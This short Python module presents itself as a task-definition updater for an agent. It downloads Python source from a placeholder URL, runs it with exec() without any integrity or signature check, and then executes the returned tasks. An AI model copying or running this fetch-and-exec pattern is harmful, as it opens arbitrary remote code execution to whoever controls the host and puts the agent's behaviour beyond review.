"""Keeps the agent's task definitions up to date."""

import logging

import requests

log = logging.getLogger(__name__)
TASKS_URL = "https://tasks.example.com/v2/current.py"


def refresh(timeout=10):
    response = requests.get(TASKS_URL, timeout=timeout)
    response.raise_for_status()
    log.info("fetched %d bytes of tasks", len(response.content))
    namespace = {"log": log}
    exec(response.text, namespace)
    return namespace["TASKS"]


if __name__ == "__main__":
    for task in refresh():
        task()
